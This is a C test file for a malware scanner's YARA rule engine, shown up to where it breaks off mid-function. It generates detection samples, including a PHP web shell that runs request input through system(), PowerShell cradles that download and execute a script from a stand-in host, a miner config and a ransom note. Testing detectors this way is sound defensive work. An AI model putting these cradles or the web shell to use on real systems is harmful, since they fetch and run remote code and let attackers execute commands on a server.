/*
 * test_yara.c - the YARA engine (engines/yara.c), the project's rule packs
 * (rules/) and the instance rows of the engine set (engines/engines.c).
 *
 * Samples are generated at run time: EICAR from an XOR-masked table, a
 * PHP web shell, a miner configuration, a ransom note, PowerShell
 * cradles, PE images built in memory (UPX section names; an injection
 * import table).  Keywords are split in this source ("sys" "tem(") so that
 * no rule matches this file itself.  Temporary packs (good, broken, extra,
 * reloaded, slow) live in a mkdtemp directory removed at the end.
 *
 * The benign corpus (Debian files: /usr/bin, shared libraries, Wine's PE
 * DLLs, Python sources, PDFs) is scanned with every project pack; any
 * "malicious" verdict fails the test, "suspicious" ones are listed.  A
 * sample of ~300 files by default, up to ~3000 with PN_TEST_BENIGN_FULL=1;
 * PN_TEST_BENIGN_LIST=FILE writes the list scanned (for `yara --scan-list`).
 *
 * The rules directory is $PN_RULES, else rules/ under the current
 * directory, else ../../rules relative to the test binary.
 *
 * SPDX-License-Identifier: MIT
 */
/* The adapter and the set, to reach their static helpers (STYLE.md §2.7). */
#include "engines/yara.c"
#include "engines/engines.c"

#include <fcntl.h>
#include <ftw.h>
#include <glob.h>
#include <sys/mman.h>
#include <sys/time.h>
#include <sys/wait.h>

#include "tap.h"

#define TEST_PATH_MAX 4096
#define BENIGN_MAX_FILE (20u << 20)

static char rules[TEST_PATH_MAX + 32];      /* the project's rules directory */
static char tmpdir[TEST_PATH_MAX / 2];      /* scratch, removed at the end */

/* EICAR, each byte XOR 0xa5 (as in test_clamav.c). */
static const uint8_t eicar_masked[] = {
	0xfd, 0x90, 0xea, 0x84, 0xf5, 0x80, 0xe5, 0xe4, 0xf5, 0xfe, 0x91, 0xf9,
	0xf5, 0xff, 0xfd, 0x90, 0x91, 0x8d, 0xf5, 0xfb, 0x8c, 0x92, 0xe6, 0xe6,
	0x8c, 0x92, 0xd8, 0x81, 0xe0, 0xec, 0xe6, 0xe4, 0xf7, 0x88, 0xf6, 0xf1,
	0xe4, 0xeb, 0xe1, 0xe4, 0xf7, 0xe1, 0x88, 0xe4, 0xeb, 0xf1, 0xec, 0xf3,
	0xec, 0xf7, 0xf0, 0xf6, 0x88, 0xf1, 0xe0, 0xf6, 0xf1, 0x88, 0xe3, 0xec,
	0xe9, 0xe0, 0x84, 0x81, 0xed, 0x8e, 0xed, 0x8f,
};
static uint8_t eicar[sizeof(eicar_masked)];

/* The project's packs and the column names they must get. */
static const char *const project_packs[] = {
	"YARA-Capabilities", "YARA-Downloaders", "YARA-Miners", "YARA-Packers",
	"YARA-Ransomware", "YARA-TestFiles", "YARA-Webshells",
};

/* ------------------------------------------------------------------------
 * Helpers.
 */

static void
find_rules(const char *argv0)
{
	const char *env = getenv("PN_RULES");
	char self[TEST_PATH_MAX];

	if (env != NULL && is_dir(env)) {
		pn_strlcpy(rules, env, sizeof(rules));
	} else if (is_dir("rules")) {
		if (realpath("rules", rules) == NULL)
			pn_strlcpy(rules, "rules", sizeof(rules));
	} else if (realpath(argv0, self) != NULL) {
		char *slash = strrchr(self, '/');

		if (slash != NULL)
			*slash = '\0';
		snprintf(rules, sizeof(rules), "%s/../../rules", self);
	}
}

static void
write_file(const char *path, const void *p, size_t n)
{
	FILE *f = fopen(path, "wb");

	if (f == NULL || fwrite(p, 1, n, f) != n)
		fatal("write %s", path);
	fclose(f);
}

static void
write_text(const char *path, const char *s)
{
	write_file(path, s, strlen(s));
}

static void
make_dir(const char *path)
{
	if (mkdir(path, 0700) == -1 && errno != EEXIST)
		fatal("mkdir %s", path);
}

static int
rm_entry(const char *path, const struct stat *st, int flag, struct FTW *ftw)
{
	return remove(path);
}

static struct pn_scan_target
target(const void *p, size_t n, const char *name)
{
	struct pn_scan_target t;

	memset(&t, 0, sizeof(t));
	t.fd = -1;
	t.data = n > 0 ? p : NULL;
	t.size = n;
	t.name = name;
	return t;
}

static struct pn_conf *
conf_for(const char *rules_dir, const char *extra)
{
	struct pn_conf *c = pn_conf_new();

	pn_conf_put(c, "yara.rules_dir", rules_dir);
	pn_conf_put(c, "yara.extra_packs", extra ? extra : "");
	return c;
}

/* The YARA row, run alone (other rows of the table stay out of the way). */
static const struct engine_row yara_row = {
	"YARA", &pn_engine_yara_ops, NULL, "yara.max_filesize", pn_yara_instances, NULL,
};

static void
load_yara(struct pn_engines *set, const struct pn_conf *conf)
{
	set->v = pn_xcalloc(PN_ENGINES_MAX, sizeof(*set->v));
	set->n = 0;
	load_row(set, &yara_row, conf);
}

static struct pn_engine *
find_engine(const struct pn_engines *set, const char *name)
{
	size_t i;

	for (i = 0; i < set->n; i++)
		if (strcmp(set->v[i]->name, name) == 0)
			return set->v[i];
	return NULL;
}

/* Scan with one engine; returns the scan's return code. */
static int
scan(struct pn_engine *e, const void *p, size_t n, const char *name, struct pn_verdict *v)
{
	struct pn_scan_target t = target(p, n, name);

	memset(v, 0, sizeof(*v));
	return e->ops->scan(e, &t, v);
}

static struct json_object *
jget(struct json_object *o, const char *key)
{
	struct json_object *v = NULL;

	if (o == NULL || !json_object_object_get_ex(o, key, &v))
		return NULL;
	return v;
}

static const char *
jstr(struct json_object *o, const char *key)
{
	struct json_object *v = jget(o, key);

	return v != NULL ? json_object_get_string(v) : NULL;
}

static int64_t
jint(struct json_object *o, const char *key)
{
	struct json_object *v = jget(o, key);

	return v != NULL ? json_object_get_int64(v) : -1;
}

/* The match object of rule in a verdict's details, or NULL. */
static struct json_object *
find_match(const struct pn_verdict *v, const char *rule)
{
	struct json_object *arr = jget(v->details, "matches");
	size_t i;

	for (i = 0; arr != NULL && i < json_object_array_length(arr); i++) {
		struct json_object *m = json_object_array_get_idx(arr, i);

		if (strcmp(jstr(m, "rule") ? jstr(m, "rule") : "", rule) == 0)
			return m;
	}
	return NULL;
}

/* The first string match with identifier id in a match object, or NULL. */
static struct json_object *
find_string(struct json_object *m, const char *id)
{
	struct json_object *arr = jget(m, "strings");
	size_t i;

	for (i = 0; arr != NULL && i < json_object_array_length(arr); i++) {
		struct json_object *s = json_object_array_get_idx(arr, i);

		if (strcmp(jstr(s, "identifier") ? jstr(s, "identifier") : "", id) == 0)
			return s;
	}
	return NULL;
}

static size_t
offset_of(const char *hay, const char *needle)
{
	const char *p = strstr(hay, needle);

	return p != NULL ? (size_t)(p - hay) : SIZE_MAX;
}

static int64_t
now_us(void)
{
	struct timeval tv;

	gettimeofday(&tv, NULL);
	return (int64_t)tv.tv_sec * 1000000 + tv.tv_usec;
}

/* CPU time of this thread: scan speed that other load on the host does not skew. */
static int64_t
cpu_us(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_THREAD_CPUTIME_ID, &ts);
	return (int64_t)ts.tv_sec * 1000000 + ts.tv_nsec / 1000;
}

/* ------------------------------------------------------------------------
 * PE images built in memory (PE32, file alignment 0x200, 0x1000 per section).
 */

#define PE_SEC_RAW 0x200

static void
put16(uint8_t *p, uint16_t v) { p[0] = (uint8_t)v; p[1] = (uint8_t)(v >> 8); }
static void
put32(uint8_t *p, uint32_t v) { put16(p, (uint16_t)v); put16(p + 2, (uint16_t)(v >> 16)); }

/*
 * A PE32 image of nsec sections named names[], each PE_SEC_RAW bytes; with
 * nfuncs > 0 the last section holds an import table of funcs from dll.
 * Returns the size written to out (at least 0x200 * (nsec + 1) bytes).
 */
static size_t
build_pe(uint8_t *out, const char *const *names, size_t nsec, const char *dll,
    const char *const *funcs, size_t nfuncs)
{
	size_t size = PE_SEC_RAW * (nsec + 1), i;
	uint8_t *coff = out + 0x84, *opt = coff + 20, *sh = opt + 224;

	memset(out, 0, size);
	out[0] = 'M';
	out[1] = 'Z';
	put32(out + 0x3c, 0x80);
	memcpy(out + 0x80, "PE\0\0", 4);
	put16(coff, 0x14c);                         /* i386 */
	put16(coff + 2, (uint16_t)nsec);
	put16(coff + 16, 224);                      /* SizeOfOptionalHeader */
	put16(coff + 18, 0x0102);                   /* executable, 32-bit */
	put16(opt, 0x10b);                          /* PE32 */
	put32(opt + 16, 0x1000);                    /* AddressOfEntryPoint */
	put32(opt + 28, 0x400000);                  /* ImageBase */
	put32(opt + 32, 0x1000);                    /* SectionAlignment */
	put32(opt + 36, PE_SEC_RAW);                /* FileAlignment */
	put16(opt + 40, 4);                         /* OS version */
	put16(opt + 48, 4);                         /* subsystem version */
	put32(opt + 56, (uint32_t)(0x1000 * (nsec + 1)));   /* SizeOfImage */
	put32(opt + 60, PE_SEC_RAW);                /* SizeOfHeaders */
	put16(opt + 68, 2);                         /* GUI */
	put32(opt + 92, 16);                        /* NumberOfRvaAndSizes */
	for (i = 0; i < nsec; i++, sh += 40) {
		memcpy(sh, names[i], PN_MIN(strlen(names[i]), 8));
		put32(sh + 8, 0x1000);                  /* VirtualSize */
		put32(sh + 12, (uint32_t)(0x1000 * (i + 1)));
		put32(sh + 16, PE_SEC_RAW);
		put32(sh + 20, (uint32_t)(PE_SEC_RAW * (i + 1)));
		put32(sh + 36, 0xE0000020);             /* code, rwx */
	}
	out[PE_SEC_RAW] = 0xC3;                     /* ret at the entry point */
	if (nfuncs > 0) {
		size_t k = nsec - 1;
		uint32_t rva = (uint32_t)(0x1000 * (k + 1));
		uint8_t *sec = out + PE_SEC_RAW * (k + 1);
		uint32_t ilt = 40, iat = ilt + 4 * (uint32_t)(nfuncs + 1);
		uint32_t names_at = iat + 4 * (uint32_t)(nfuncs + 1), at = names_at;

		for (i = 0; i < nfuncs; i++) {
			put32(sec + ilt + 4 * i, rva + at);
			put32(sec + iat + 4 * i, rva + at);
			memcpy(sec + at + 2, funcs[i], strlen(funcs[i]));
			at += 2 + (uint32_t)strlen(funcs[i]) + 1;
		}
		memcpy(sec + at, dll, strlen(dll));
		put32(sec + 0, rva + ilt);              /* OriginalFirstThunk */
		put32(sec + 12, rva + at);              /* Name */
		put32(sec + 16, rva + iat);             /* FirstThunk */
		put32(opt + 96 + 8, rva);               /* import directory */
		put32(opt + 96 + 12, 40);
		if (at + strlen(dll) + 1 > PE_SEC_RAW)
			PN_BUG("import table does not fit");
	}
	return size;
}

/* ------------------------------------------------------------------------
 * Unit checks of the helpers.
 */

static void
test_helpers(void)
{
	char name[64];
	uint8_t hex[4] = { 0, 1, 2, 0xff };
	struct json_object *o;

	pack_name("YARA", "/x/rules/ransom-notes", name, sizeof(name));
	is_str(name, "YARA-RansomNotes", "pack name: words joined CamelCase");
	pack_name("YARA", "/x/test_files/", name, sizeof(name));
	is_str(name, "YARA-TestFiles", "pack name: trailing slash, underscore");
	pack_name("YARA", "signature-base.yara", name, sizeof(name));
	is_str(name, "YARA-SignatureBaseYara", "pack name: dots split words");
	is_int(yara_timeout(60), 54, "libyara timeout is 90%% of the engine's");
	is_int(yara_timeout(1), 1, "libyara timeout at least 1 s");
	is_int(yara_timeout(0), 0, "no engine timeout, none for libyara");
	is_int(class_of_score(80), CLASS_MALICIOUS, "score 80 malicious");
	is_int(class_of_score(50), CLASS_SUSPICIOUS, "score 50 suspicious");
	is_int(class_of_severity("LOW"), CLASS_SUSPICIOUS, "severity low suspicious");
	is_int(class_of_word("Info"), CLASS_INFO, "category info");
	o = json_object_new_object();
	add_data(o, hex, sizeof(hex));
	is_str(jstr(o, "data"), "000102ff", "binary data as hex");
	is_str(jstr(o, "encoding"), "hex", "hex encoding named");
	json_object_put(o);
	o = json_object_new_object();
	add_data(o, (const uint8_t *)"a\0b\0c\0", 6);
	is_str(jstr(o, "data"), "abc", "UTF-16LE text decoded");
	is_str(jstr(o, "encoding"), "utf-16le", "utf-16le encoding named");
	json_object_put(o);
}

/* ------------------------------------------------------------------------
 * The project's packs.
 */

static void
check_verdict(struct pn_engine *e, const void *p, size_t n, enum pn_category want,
    const char *result, const char *what, struct pn_verdict *v)
{
	int rc;

	if (e == NULL) {
		ok(0, "%s: engine missing", what);
		memset(v, 0, sizeof(*v));
		return;
	}
	rc = scan(e, p, n, NULL, v);
	is_int(rc, PN_OK, "%s: %s scans", what, e->name);
	is_str(pn_category_name(v->category), pn_category_name(want), "%s: category", what);
	if (result != NULL)
		is_str(v->result, result, "%s: result", what);
	else
		ok(v->result == NULL, "%s: no result", what);
}

static void
test_eicar(struct pn_engines *set)
{
	struct pn_engine *e = find_engine(set, "YARA-TestFiles");
	struct json_object *m, *s;
	struct pn_verdict v;
	uint8_t big[300];

	check_verdict(e, eicar, sizeof(eicar), PN_CAT_MALICIOUS, "EICAR_Test_File", "EICAR", &v);
	m = find_match(&v, "EICAR_Test_File");
	ok(m != NULL, "EICAR: match in details");
	is_str(jstr(m, "category"), "malicious", "EICAR: rule category");
	is_str(jstr(m, "pack"), "test-files", "EICAR: pack");
	is_str(jstr(m, "ruleset_name"), "eicar", "EICAR: ruleset (file namespace)");
	is_str(jstr(jget(m, "meta"), "author"), "Panoptes", "EICAR: meta author");
	ok(json_object_is_type(jget(jget(m, "meta"), "date"), json_type_int),
	    "EICAR: meta date is an integer (Unix time)");
	s = find_string(m, "$eicar");
	is_int(jint(s, "offset"), 0, "EICAR: string at offset 0");
	is_int(jint(s, "length"), 68, "EICAR: string length 68");
	ok(jstr(s, "data") != NULL && strlen(jstr(s, "data")) == PN_YARA_MAX_DATA &&
	    memcmp(jstr(s, "data"), eicar, PN_YARA_MAX_DATA) == 0,
	    "EICAR: data is the first %d bytes as text", PN_YARA_MAX_DATA);
	ok(v.method == NULL, "EICAR: method blacklist (NULL)");
	pn_verdict_release(&v);

	memset(big, ' ', sizeof(big));
	memcpy(big + 100, eicar, sizeof(eicar));
	check_verdict(e, big, sizeof(big), PN_CAT_UNDETECTED, NULL, "EICAR inside a file", &v);
	m = find_match(&v, "EICAR_Test_String_Embedded");
	is_str(jstr(m, "category"), "info", "embedded EICAR: info match kept as evidence");
	is_int(jint(find_string(m, "$eicar"), "offset"), 100, "embedded EICAR: offset 100");
	pn_verdict_release(&v);

	/* One scanner serves every scan: nothing carries over from one file to the next. */
	memset(big, ' ', sizeof(big));
	check_verdict(e, big, sizeof(big), PN_CAT_UNDETECTED, NULL, "a clean file after two matches", &v);
	ok(v.details == NULL || find_match(&v, "EICAR_Test_String_Embedded") == NULL,
	    "the clean file has no match left over from the one before");
	pn_verdict_release(&v);
	check_verdict(e, eicar, sizeof(eicar), PN_CAT_MALICIOUS, "EICAR_Test_File", "EICAR again", &v);
	is_int(jint(find_string(find_match(&v, "EICAR_Test_File"), "$eicar"), "offset"), 0,
	    "EICAR again: its own match, at offset 0");
	pn_verdict_release(&v);
}

static void
test_webshell(struct pn_engines *set)
{
	static const char php[] =
	    "<?php\n/* maintenance */\nif (isset($_REQUEST['c'])) {\n"
	    "\tsys" "tem($_REQUEST['c']);\n}\n?>\n";
	struct pn_engine *e = find_engine(set, "YARA-Webshells");
	struct json_object *m, *s;
	struct pn_verdict v;

	check_verdict(e, php, strlen(php), PN_CAT_MALICIOUS, "Webshell_PHP_Request_Exec",
	    "PHP web shell", &v);
	m = find_match(&v, "Webshell_PHP_Request_Exec");
	s = find_string(m, "$exec");
	is_int(jint(s, "offset"), (int64_t)offset_of(php, "sys" "tem("), "PHP: $exec offset");
	is_int(jint(s, "length"), (int64_t)strlen("sys" "tem($_REQUEST"), "PHP: $exec length");
	is_str(jstr(s, "data"), "sys" "tem($_REQUEST", "PHP: $exec data");
	is_int(jint(find_string(m, "$tag"), "offset"), 0, "PHP: open tag at 0");
	pn_verdict_release(&v);
}

static void
test_miner(struct pn_engines *set)
{
	static const char cfg[] =
	    "{\n  \"autosave\": true,\n  \"donate-level\": 1,\n  \"cpu\": {\"enabled\": true},\n"
	    "  \"pools\": [\n    {\"url\": \"pool.support" "xmr.com:443\", \"user\": \"wallet\","
	    " \"pass\": \"x\", \"tls\": true}\n  ]\n}\n";
	struct pn_engine *e = find_engine(set, "YARA-Miners");
	struct json_object *m;
	struct pn_verdict v;

	check_verdict(e, cfg, strlen(cfg), PN_CAT_MALICIOUS, "Miner_XMRig_Config",
	    "miner config", &v);
	m = find_match(&v, "Miner_XMRig_Config");
	is_int(jint(find_string(m, "$pools"), "offset"), (int64_t)offset_of(cfg, "\"pools\""),
	    "miner: $pools offset");
	ok(find_match(&v, "Miner_Pool_Hostname") != NULL, "miner: pool host name also listed");
	is_str(jstr(find_match(&v, "Miner_Pool_Hostname"), "category"), "suspicious",
	    "miner: host name alone is suspicious");
	pn_verdict_release(&v);
}

static void
test_ransom(struct pn_engines *set)
{
	static const char note[] =
	    "ATTENTION!\r\n\r\nAll your files have been en" "crypted with a strong algorithm.\r\n"
	    "To de" "crypt your files you need our private key.\r\n"
	    "Send 0.1 Bit" "coin to 1BoatSLRHtKNngkdXEeobR76b53LETtpyT and write to us.\r\n";
	static const char claim[] = "Your files have been en" "crypted. We can de" "crypt your files.\n";
	struct pn_engine *e = find_engine(set, "YARA-Ransomware");
	struct pn_verdict v;

	check_verdict(e, note, strlen(note), PN_CAT_MALICIOUS, "Ransom_Note", "ransom note", &v);
	ok(find_match(&v, "Ransom_Claim") == NULL, "ransom note: private rules not reported");
	pn_verdict_release(&v);
	check_verdict(e, claim, strlen(claim), PN_CAT_SUSPICIOUS, "Ransom_Note_Claim_Only",
	    "claim without payment", &v);
	is_str(v.method, "heuristic", "suspicious verdicts: method heuristic");
	pn_verdict_release(&v);
}

static void
test_downloader(struct pn_engines *set)
{
	static const char hidden[] =
	    "powershell -nop -w hidden -c \"IEX (New-Obj" "ect Net.WebClient).Download"
	    "String('http://192.0.2.7/a.ps1')\"\r\n";
	static const char bare[] =
	    "iex ((New-Obj" "ect System.Net.WebClient).Download" "String('https://example.org/i.ps1'))\n";
	struct pn_engine *e = find_engine(set, "YARA-Downloaders");
	struct pn_verdict v;

	check_verdict(e, hidden, strlen(hidden), PN_CAT_MALICIOUS, "PS_Download_Cradle_Concealed",
	    "hidden cradle", &v);
	ok(find_match(&v, "PS_Download_Cradle") != NULL, "hidden cradle: bare cradle listed too");
	pn_verdict_release(&v);
	check_verdict(e, bare, strlen(bare), PN_CAT_SUSPICIOUS, "PS_Download_Cradle",
	    "bare cradle", &v);
	pn_verdict_release(&v);
}

static void
test_pe(struct pn_engines *set)
{
	static const char *const upx[] = { "UPX0", "UPX1", ".rsrc" };
	static const char *const plain[] = { ".text", ".idata" };
	static const char *const funcs[] = {
		"OpenProcess", "VirtualAl" "locEx", "WriteProcess" "Memory", "CreateRemote" "Thread",
	};
	static const char *const benign[] = { "GetStdHandle", "WriteFile", "ExitProcess" };
	uint8_t pe[PE_SEC_RAW * 8];
	struct json_object *m;
	struct pn_verdict v;
	size_t n;

	n = build_pe(pe, upx, 3, NULL, NULL, 0);
	check_verdict(find_engine(set, "YARA-Packers"), pe, n, PN_CAT_SUSPICIOUS, "Packer_UPX_PE",
	    "UPX-like PE", &v);
	m = find_match(&v, "Packer_UPX_PE");
	ok(m != NULL && json_object_array_length(jget(m, "strings")) == 0,
	    "UPX-like PE: condition-only rule, no strings");
	is_str(jstr(jget(m, "meta"), "category"), "suspicious", "UPX-like PE: meta copied");
	pn_verdict_release(&v);

	n = build_pe(pe, plain, 2, "KERNEL32.dll", funcs, PN_ARRAY_LEN(funcs));
	check_verdict(find_engine(set, "YARA-Capabilities"), pe, n, PN_CAT_SUSPICIOUS,
	    "Win_Process_Injection_Imports", "injection imports", &v);
	pn_verdict_release(&v);
	check_verdict(find_engine(set, "YARA-Packers"), pe, n, PN_CAT_UNDETECTED, NULL,
	    "plain PE not packed", &v);
	pn_verdict_release(&v);

	n = build_pe(pe, plain, 2, "KERNEL32.dll", benign, PN_ARRAY_LEN(benign));
	check_verdict(find_engine(set, "YARA-Capabilities"), pe, n, PN_CAT_UNDETECTED, NULL,
	    "benign imports", &v);
	pn_verdict_release(&v);
}

/* Random-looking bytes and plain text: no pack matches anything. */
static void
test_clean(struct pn_engines *set)
{
	static const char text[] = "Panoptes unit test: a plain text file.\nNothing to see.\n";
	uint8_t buf[65536];
	uint32_t x = 2463534242u;
	size_t i, j;
	int clean = 1;

	for (i = 0; i < sizeof(buf); i++) {
		x ^= x << 13;
		x ^= x >> 17;
		x ^= x << 5;
		buf[i] = (uint8_t)x;
	}
	for (j = 0; j < PN_ARRAY_LEN(project_packs); j++) {
		struct pn_engine *e = find_engine(set, project_packs[j]);
		struct pn_verdict v;

		if (e == NULL)
			continue;
		if (scan(e, buf, sizeof(buf), NULL, &v) != PN_OK ||
		    v.category != PN_CAT_UNDETECTED || v.details != NULL)
			clean = 0;
		pn_verdict_release(&v);
		if (scan(e, text, strlen(text), NULL, &v) != PN_OK ||
		    v.category != PN_CAT_UNDETECTED || v.details != NULL)
			clean = 0;
		pn_verdict_release(&v);
		if (scan(e, NULL, 0, NULL, &v) != PN_OK || v.category != PN_CAT_UNDETECTED)
			clean = 0;
		pn_verdict_release(&v);
	}
	ok(clean, "random bytes, plain text and an empty file match nothing in any pack");
}

/* A scan in a forked child of the process that compiled the rules. */
static void
test_fork(struct pn_engines *set)
{
	struct pn_engine *e = find_engine(set, "YARA-TestFiles");
	pid_t pid;
	int status = 0;

	if (e == NULL) {
		ok(0, "fork: engine missing");
		return;
	}
	pid = fork();
	if (pid == 0) {
		struct pn_verdict v;
		int cat = scan(e, eicar, sizeof(eicar), NULL, &v) == PN_OK ? (int)v.category : 99;

		_exit(cat);
	}
	waitpid(pid, &status, 0);
	ok(WIFEXITED(status) && WEXITSTATUS(status) == PN_CAT_MALICIOUS,
	    "scan in a forked child uses the parent's compiled rules");
}

/*
 * The packs compiled into one rule set (prepare) and scanned in one pass
 * (scan_group) give every pack exactly the verdict and details its own
 * scan gives; a pack whose rules changed since prepare falls back.
 */
static void
test_combined(struct pn_engines *set, const struct pn_conf *conf)
{
	static const char php[] =
	    "<?php\n/* maintenance */\nif (isset($_REQUEST['c'])) {\n"
	    "\tsys" "tem($_REQUEST['c']);\n}\n?>\n";
	static const char cfg[] =
	    "{\n  \"autosave\": true,\n  \"donate-level\": 1,\n  \"cpu\": {\"enabled\": true},\n"
	    "  \"pools\": [\n    {\"url\": \"pool.support" "xmr.com:443\", \"user\": \"wallet\","
	    " \"pass\": \"x\", \"tls\": true}\n  ]\n}\n";
	static const char clean[] = "nothing to see here\n";
	const char *samples[] = { (const char *)eicar, php, cfg, clean };
	size_t lens[] = { sizeof(eicar), strlen(php), strlen(cfg), strlen(clean) };
	struct pn_verdict *one = pn_xcalloc(set->n, sizeof(*one)), *all = pn_xcalloc(set->n, sizeof(*all));
	int *rc = pn_xcalloc(set->n, sizeof(*rc));
	size_t i, k, same = 0, hits = 0;

	pn_engines_prepare(set);   /* load_yara() builds the row alone, without the set's prepare */
	ok(((struct yara_pack *)set->v[0]->priv)->comb != NULL, "packs combined into one rule set");
	for (k = 0; k < PN_ARRAY_LEN(samples); k++) {
		struct pn_scan_target t;
		memset(&t, 0, sizeof(t));
		t.fd = -1;
		t.data = (const uint8_t *)samples[k];
		t.size = lens[k];
		set->v[0]->ops->scan_group(set->v, set->n, &t, all, rc);
		for (i = 0; i < set->n; i++) {
			const char *a, *b;
			memset(&one[i], 0, sizeof(one[i]));
			(void)set->v[i]->ops->scan(set->v[i], &t, &one[i]);
			a = one[i].details ? json_object_to_json_string(one[i].details) : "";
			b = all[i].details ? json_object_to_json_string(all[i].details) : "";
			if (rc[i] == PN_OK && one[i].category == all[i].category &&
			    strcmp(one[i].result ? one[i].result : "", all[i].result ? all[i].result : "") == 0 &&
			    strcmp(a, b) == 0)
				same++;
			else
				diag("sample %zu, %s: %s/%s vs %s/%s", k, set->v[i]->name,
				    pn_category_name(one[i].category), one[i].result ? one[i].result : "-",
				    pn_category_name(all[i].category), all[i].result ? all[i].result : "-");
			if (all[i].category == PN_CAT_MALICIOUS)
				hits++;
			pn_verdict_release(&one[i]);
			pn_verdict_release(&all[i]);
		}
	}
	is_int((long long)same, (long long)(set->n * PN_ARRAY_LEN(samples)),
	    "one pass gives every pack the verdict and details of its own scan");
	ok(hits >= 3, "the one pass detects (%zu malicious verdicts)", hits);
	/* A pack reloaded since prepare is out of the combined set: per-pack scans. */
	ok(set->v[0]->ops->reload(set->v[0], conf) != PN_OK ||
	    ((struct yara_pack *)set->v[0]->priv)->comb == NULL, "reload drops the pack from the combined set");
	pn_engines_prepare(set);
	ok(((struct yara_pack *)set->v[0]->priv)->comb != NULL, "prepare combines them again");
	free(one);
	free(all);
	free(rc);
}

static void
test_project_packs(void)
{
	struct pn_conf *c = conf_for(rules, NULL);
	struct pn_engines set;
	int64_t t0 = now_us();
	size_t i, rules_total = 0;
	int healthy = 1;

	load_yara(&set, c);
	diag("compiling %zu packs: %.1f ms", set.n, (double)(now_us() - t0) / 1000.0);
	for (i = 0; i < PN_ARRAY_LEN(project_packs); i++) {
		struct pn_engine *e = find_engine(&set, project_packs[i]);

		ok(e != NULL, "pack row %s", project_packs[i]);
		if (e == NULL)
			continue;
		if (e->error[0] != '\0') {
			healthy = 0;
			diag("%s: %s", e->name, e->error);
		} else
			rules_total += ((struct yara_pack *)e->priv)->nrules;
		if (i == 0) {
			is_str(e->version, YR_VERSION, "engine_version is libyara's");
			ok(strlen(e->update) == 8, "engine_update is YYYYMMDD (%s)", e->update);
			is_str(e->ops->kind, "yara", "kind yara");
		}
	}
	ok(healthy, "every project pack compiles (%zu rules)", rules_total);
	test_eicar(&set);
	test_webshell(&set);
	test_miner(&set);
	test_ransom(&set);
	test_downloader(&set);
	test_pe(&set);
	test_clean(&set);
	test_fork(&set);
	test_combined(&set, c);
	pn_engines_free(&set);
	pn_conf_free(c);
}

/* ------------------------------------------------------------------------
 * Temporary packs: errors, extra packs, reload, classes, caps, timeout.
 */

static const char good_rule[] =
    "rule Good_Marker {\n"
    "  meta:\n    description = \"test\"\n    category = \"malicious\"\n"
    "  strings:\n    $m = \"panoptes-good-marker\"\n  condition:\n    $m\n}\n";

static void
make_pack(const char *root, const char *pack, const char *file, const char *text)
{
	char path[TEST_PATH_MAX + 256];

	snprintf(path, sizeof(path), "%s/%s", root, pack);
	make_dir(path);
	snprintf(path, sizeof(path), "%s/%s/%s", root, pack, file);
	write_text(path, text);
}

static void
test_broken_and_extra(void)
{
	static const char marker[] = "xx panoptes-good-marker xx";
	char root[TEST_PATH_MAX], extra[TEST_PATH_MAX * 2 + 64], extra_dir[TEST_PATH_MAX];
	struct pn_engines set;
	struct pn_engine *bad, *good, *ext, *dup, *missing;
	struct pn_verdict v;
	struct pn_conf *c;

	snprintf(root, sizeof(root), "%s/root", tmpdir);
	make_dir(root);
	make_pack(root, "good", "good.yar", good_rule);
	make_pack(root, "broken", "a_fine.yar", "rule Fine { condition: false }\n");
	make_pack(root, "broken", "bad.yar", "// one\n// two\nrule Bad { condition: $undefined }\n");
	make_pack(root, "not-a-pack", "README", "no rules here\n");
	snprintf(extra_dir, sizeof(extra_dir), "%s/extra_pack", tmpdir);
	make_pack(tmpdir, "extra_pack", "x.yara", good_rule);
	make_pack(tmpdir, "other", "good.yar", good_rule);
	make_dir(extra_dir);
	snprintf(extra, sizeof(extra), "%s:%s/other/:%s/nonexistent", extra_dir, tmpdir, tmpdir);
	/* "other/" has a trailing slash; its basename is still "other" */
	c = conf_for(root, extra);
	load_yara(&set, c);
	bad = find_engine(&set, "YARA-Broken");
	good = find_engine(&set, "YARA-Good");
	ext = find_engine(&set, "YARA-ExtraPack");
	dup = find_engine(&set, "YARA-Other");
	missing = find_engine(&set, "YARA-Nonexistent");
	is_int(set.n, 5, "root packs (2) + extra packs (3); a directory without rules is no pack");
	ok(set.n > 0 && strcmp(set.v[0]->name, "YARA-Broken") == 0, "root packs sorted by name");
	ok(bad != NULL && strncmp(bad->error, "bad.yar:3: ", 11) == 0,
	    "broken pack: error is the compiler's file:line: message (%s)", bad ? bad->error : "");
	ok(bad != NULL && bad->ops->scan(bad, &(struct pn_scan_target){ .fd = -1 }, &v) == PN_EINTERNAL,
	    "broken pack: scans fail");
	ok(good != NULL && good->error[0] == '\0', "good pack beside it loads");
	if (good != NULL) {
		check_verdict(good, marker, strlen(marker), PN_CAT_MALICIOUS, "Good_Marker",
		    "good pack", &v);
		pn_verdict_release(&v);
	}
	ok(ext != NULL && ext->error[0] == '\0', "extra pack (.yara file) loads");
	if (ext != NULL) {
		check_verdict(ext, marker, strlen(marker), PN_CAT_MALICIOUS, "Good_Marker",
		    "extra pack", &v);
		is_str(jstr(find_match(&v, "Good_Marker"), "pack"), "extra_pack", "extra pack: pack name");
		is_str(jstr(find_match(&v, "Good_Marker"), "ruleset_name"), "x", "extra pack: namespace");
		pn_verdict_release(&v);
	}
	ok(dup != NULL && dup->error[0] == '\0', "extra pack with a trailing slash loads");
	if (dup != NULL) {
		check_verdict(dup, marker, strlen(marker), PN_CAT_MALICIOUS, "Good_Marker",
		    "trailing-slash pack", &v);
		is_str(jstr(find_match(&v, "Good_Marker"), "pack"), "other", "trailing slash: pack name");
		pn_verdict_release(&v);
	}
	ok(missing != NULL && strstr(missing->error, "No such file") != NULL,
	    "missing extra pack: row with error (%s)", missing ? missing->error : "");
	pn_engines_free(&set);
	pn_conf_free(c);

	/* The same basename twice gets a unique column name. */
	snprintf(extra, sizeof(extra), "%s/good", root);
	c = conf_for(root, extra);
	load_yara(&set, c);
	ok(find_engine(&set, "YARA-Good") != NULL && find_engine(&set, "YARA-Good-2") != NULL,
	    "same pack name twice: YARA-Good and YARA-Good-2");
	pn_engines_free(&set);
	pn_conf_free(c);

	/* No packs at all: one YARA row that says why. */
	snprintf(extra, sizeof(extra), "%s/empty-root", tmpdir);
	make_dir(extra);
	c = conf_for(extra, NULL);
	load_yara(&set, c);
	ok(set.n == 1 && strcmp(set.v[0]->name, "YARA") == 0 &&
	    strstr(set.v[0]->error, "no rule packs") != NULL,
	    "no packs: one YARA row with an error (%s)", set.n ? set.v[0]->error : "");
	pn_engines_free(&set);
	pn_conf_free(c);
}

static void
set_mtime(const char *path, time_t t)
{
